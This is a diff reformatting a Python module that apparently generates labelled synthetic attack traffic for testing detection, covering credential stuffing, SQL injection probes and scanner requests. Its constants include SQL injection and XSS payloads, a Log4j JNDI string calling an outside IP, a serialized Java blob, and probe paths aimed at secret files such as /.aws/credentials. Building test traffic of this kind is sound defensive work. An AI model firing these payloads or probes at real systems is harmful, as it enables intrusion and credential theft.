@@ -16,17 +16,38 @@ STUFFING_START = (17, 10)
 STUFFING_END = (17, 25)
 STUFFING_IPS = 6
 PROBE_IPS = 5
-_SPOOFED_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-               "Chrome/124.0.0.0 Safari/537.36")
-SQLI = ("1' OR 1=1--", "1 UNION SELECT username,password FROM users--", "x' AND SLEEP(5)--",
-        "1; DROP TABLE titles--", "' OR '1'='1", "1) UNION ALL SELECT NULL,version()--")
+_SPOOFED_UA = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
+)
+SQLI = (
+    "1' OR 1=1--",
+    "1 UNION SELECT username,password FROM users--",
+    "x' AND SLEEP(5)--",
+    "1; DROP TABLE titles--",
+    "' OR '1'='1",
+    "1) UNION ALL SELECT NULL,version()--",
+)
 XSS = ('"><img src=x onerror=alert(2)>', "<script>alert(1)</script>")
 LOG4J = "${jndi:ldap://198.51.100.77:1389/a}"
 JAVA_SERIAL = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAAA"
-_PROBE_PATHS = ("/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php",
-                "/server-status", "/actuator/env", "/config.json", "/backup.zip", "/.aws/credentials")
-_SCANNER_UAS = ("Mozilla/5.0 zgrab/0.x", "curl/8.5.0",
-                "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", LOG4J)
+_PROBE_PATHS = (
+    "/.env",
+    "/.git/config",
+    "/wp-login.php",
+    "/wp-admin/setup-config.php",
+    "/phpmyadmin/index.php",
+    "/server-status",
+    "/actuator/env",
+    "/config.json",
+    "/backup.zip",
+    "/.aws/credentials",
+)
+_SCANNER_UAS = (
+    "Mozilla/5.0 zgrab/0.x",
+    "curl/8.5.0",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    LOG4J,
+)
 
 
 def _at(tr: Traffic, hm: tuple[int, int]) -> int:
@@ -47,9 +68,20 @@ def credential_stuffing(tr: Traffic, clients: ClientFactory, scale: float) -> li
         t = start + rng.randrange(0, 20_000)
         while t < end - 2_000:
             ok = rng.random() < 0.04
-            tr.add(t, client, "POST", "/api/login", API, ua=ua, status=200 if ok else 401, cache="Miss",
-                   obj=("application/json", 180 if ok else 64), body=rng.randrange(60, 110), kind="stuffing",
-                   headers=(("content-type", "application/json"),))
+            tr.add(
+                t,
+                client,
+                "POST",
+                "/api/login",
+                API,
+                ua=ua,
+                status=200 if ok else 401,
+                cache="Miss",
+                obj=("application/json", 180 if ok else 64),
+                body=rng.randrange(60, 110),
+                kind="stuffing",
+                headers=(("content-type", "application/json"),),
+            )
             t += 1 + int(rng.expovariate(rate))
     return ips
 
@@ -76,8 +108,10 @@ def sqli_probes(tr: Traffic, clients: ClientFactory, scale: float) -> list[str]:
     the Common rule set blocks.
     """
     rng = tr.rng
-    hosts = [clients.hosted(_SPOOFED_UA) for _ in range(3)] + [clients.viewer("NL", _SPOOFED_UA),
-                                                              clients.viewer("BR", _SPOOFED_UA)]
+    hosts = [clients.hosted(_SPOOFED_UA) for _ in range(3)] + [
+        clients.viewer("NL", _SPOOFED_UA),
+        clients.viewer("BR", _SPOOFED_UA),
+    ]
     start, span = _at(tr, (2, 10)), 150 * 60_000
     for _ in range(max(60, round(1_200 * scale))):
         client = hosts[rng.randrange(PROBE_IPS)]
@@ -93,8 +127,19 @@ def sqli_probes(tr: Traffic, clients: ClientFactory, scale: float) -> list[str]:
             payload = rng.choice(SQLI)
             query = f"{field}={url_quote(payload)}"
             signal = Signal("sqli_args", tuple(payload.replace("=", " = ").split()), field)
-        tr.add(start + rng.randrange(span), client, "GET", path, behavior, query=query, status=status,
-               obj=(ctype, 0), cache="Miss", kind="probe", signals=(signal,))
+        tr.add(
+            start + rng.randrange(span),
+            client,
+            "GET",
+            path,
+            behavior,
+            query=query,
+            status=status,
+            obj=(ctype, 0),
+            cache="Miss",
+            kind="probe",
+            signals=(signal,),
+        )
     return [c.ip for c in hosts]
 
 
@@ -138,5 +183,16 @@ def _scan(tr: Traffic, client: Client, t: int) -> None:
     behavior = API if path.startswith("/api/") else DEFAULT
     if path.startswith("/api/") and not signals:
         status = 401
-    tr.add(t, client, "GET", path, behavior, status=status, obj=("text/html", 0), cache="Miss", kind="scanner",
-           signals=signals, headers=headers)
+    tr.add(
+        t,
+        client,
+        "GET",
+        path,
+        behavior,
+        status=status,
+        obj=("text/html", 0),
+        cache="Miss",
+        kind="scanner",
+        signals=signals,
+        headers=headers,
+    )
